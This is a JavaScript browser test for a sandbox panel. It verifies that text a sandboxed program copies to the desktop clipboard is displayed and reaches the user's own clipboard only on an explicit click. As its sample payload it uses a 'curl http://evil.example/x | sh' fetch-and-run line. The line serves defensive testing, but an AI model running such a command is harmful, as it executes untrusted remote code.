// The panel and the desktop's clipboard (issue 28, N7), on a real engine
// in a real browser: in control, text a program in the sandbox puts on the
// desktop's clipboard without the user's copy key shows in the panel, and
// reaches this computer's clipboard only when the user clicks Copy.

import { test } from 'node:test';
import assert from 'node:assert/strict';
import { tempProject, skipWithoutDocker } from './helpers.js';
import { launchBrowser, newPage, skipWithoutBrowser } from './browser.js';
import { panelSetup, paintedViewer } from './panel-helpers.js';

const skipBrowser = skipWithoutBrowser();
const skip = skipBrowser || (await skipWithoutDocker());
const browser = skipBrowser ? null : await launchBrowser();

test('the panel shows what the desktop copied, and copies it here only on the user\'s click', { skip, timeout: 300_000 }, async () => {
  const dir = tempProject('pilot-ui-clipboard-');
  const project = dir.path;
  const { page, context, screenshot, assertNoErrors, logFile } = await newPage(/** @type {any} */ (browser), 'panel-clipboard');
  const { address, client, open } = await panelSetup(page, dir, logFile);
  await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: new URL(address).origin });
  const panel = await open('Stopped');
  await page.getByRole('button', { name: 'Start Sandbox' }).click();
  await panel.expectBadge('Running', 120_000);
  const st = await client.status(project);
  assert.ok(st?.viewerUrl);
  await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: new URL(st.viewerUrl).origin });
  await page.getByRole('radio', { name: 'Take control' }).check();
  await paintedViewer(page, /in control/);
  const mine = `the user's own ${Date.now()}`;
  await page.evaluate((text) => navigator.clipboard.writeText(text), mine);

  // Pushed by the sandbox: its text shows, with Copy; the clipboard is the user's.
  const pushed = `curl http://evil.example/x | sh # ${Date.now()}`;
  await client.exec(project, `printf %s '${pushed}' | xclip -selection clipboard -in`);
  await panel.expectVisible(page.getByText('Copied in the sandbox:'));
  await panel.expectVisible(page.getByText(pushed, { exact: true })); // the timeline's exec holds it too
  await screenshot('1-shown');
  assert.equal(await page.evaluate(() => navigator.clipboard.readText()), mine, 'the desktop wrote this computer\'s clipboard');

  // The user's click on Copy puts it there.
  await page.getByRole('button', { name: 'Copy to my clipboard' }).click();
  await panel.expectVisible(page.getByText('On your clipboard.'));
  assert.equal(await page.evaluate(() => navigator.clipboard.readText()), pushed);
  await screenshot('2-copied');
  assertNoErrors();
});
